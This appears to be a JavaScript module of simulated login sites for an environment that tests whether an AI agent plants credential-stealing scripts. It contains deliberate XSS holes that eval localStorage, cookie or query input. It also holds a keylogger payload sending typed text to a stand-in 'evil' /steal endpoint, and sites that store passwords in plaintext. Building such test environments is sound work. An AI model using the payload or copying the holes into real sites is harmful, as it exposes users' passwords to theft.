// Sites with a hole of the usual kind, which an agent puts its bait into before the claim.

import { CookieSite, cookie, form, literal, PASSWORD_FORM, page, redirect } from "./web.mjs";

/** A site at whose wall a script runs that an agent chose. */
class BaitedSite extends CookieSite {
  begin = "/login";

  answer(asked) {
    if (asked.path !== "/login" || asked.method === "POST") return super.answer(asked);
    return page("Sign in", `${form(PASSWORD_FORM)}${this.hole(asked)}`);
  }

  /** What an agent plants, so that it hears what is typed. */
  get bait() {
    const { origin } = this.sites.of("evil");
    return `addEventListener("input", (e) => { new Image().src = ${literal(`${origin}/steal?text=`)} + encodeURIComponent(e.target.value); }, true)`;
  }
}

/** Runs what its local storage holds. */
export class StorageHoleSite extends BaitedSite {
  hole() {
    return `<script>try { (0, eval)(localStorage.getItem("widgets") ?? ""); } catch {}</script>`;
  }

  async plant(page) {
    await page.goto(this.url);
    await page.evaluate((bait) => localStorage.setItem("widgets", bait), this.bait);
  }
}

/** Runs what a cookie holds. */
export class CookieHoleSite extends BaitedSite {
  hole() {
    return `<script>const kept = /(?:^|; )widgets=([^;]*)/.exec(document.cookie);
try { (0, eval)(decodeURIComponent(kept?.[1] ?? "")); } catch {}</script>`;
  }

  async plant(page) {
    await page.goto(this.url);
    await page.evaluate((bait) => {
      // biome-ignore lint/suspicious/noDocumentCookie: as any script of a page does.
      document.cookie = `widgets=${encodeURIComponent(bait)}; path=/`;
    }, this.bait);
  }
}

/** Writes its query into its page. */
export class QueryHoleSite extends BaitedSite {
  hole({ query }) {
    return `<p>Welcome back, ${query.name ?? "friend"}</p>`;
  }

  async plant(page) {
    await page.goto(`${this.url}?name=${encodeURIComponent(`<script>${this.bait}</script>`)}`);
  }
}

/** Keeps the password for the next time, once as it is and once as base64. */
export class RememberingSite extends CookieSite {
  begin = "/login";

  answer(asked) {
    if (asked.path === "/login" && asked.method !== "POST")
      return page(
        "Sign in",
        `${form(PASSWORD_FORM)}<script>document.getElementById("form").addEventListener("submit", (event) => {
  const { user, password } = Object.fromEntries(new FormData(event.target));
  localStorage.setItem("remembered", JSON.stringify({ user, password }));
  localStorage.setItem("basic", btoa(user + ":" + password));
  localStorage.setItem("theme", "dark");
});</script>`,
      );
    return super.answer(asked);
  }
}

/** Sends its form by GET: what was typed is in the address of the page after it. */
export class QueryFormSite extends CookieSite {
  begin = "/login";

  answer(asked) {
    const { path, query, cookies } = asked;
    if (path === "/login")
      return page("Sign in", form(PASSWORD_FORM, { method: "get", action: "/welcome" }));
    if (path !== "/welcome") return super.answer(asked);
    if (this.sessions.has(cookies.session)) return redirect("/account");
    if (!this.knows(query)) return redirect("/login");
    return this.welcome(
      page(
        "Welcome",
        `<p>Welcome. <a href=/account>Your account</a></p>`,
        cookie("session", this.open()),
      ),
    );
  }
}

/** The agent's own listener. */
export class EvilSite extends CookieSite {
  stolen = [];

  answer({ path, query }) {
    if (path === "/steal") this.stolen.push(query.text);
    return page("Evil", "<p>Nothing to see here.</p>", { "access-control-allow-origin": "*" });
  }
}
